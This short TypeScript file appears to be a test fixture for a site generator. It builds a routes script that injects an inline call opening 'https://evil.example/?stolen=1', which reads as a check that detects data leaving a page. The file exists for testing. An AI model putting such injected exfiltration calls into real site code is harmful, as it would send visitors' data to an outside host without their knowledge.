import { writeRoutes, type GardenOptions } from "../garden";

/** It cannot be reached, and that is enough: what the address says has left the page. */
export const foreignHost = "evil.example";

export const build: GardenOptions = {
  files: { "js/routes.js": writeRoutes({ inPage: `open("https://${foreignHost}/?stolen=1", "_blank");` }) },
};
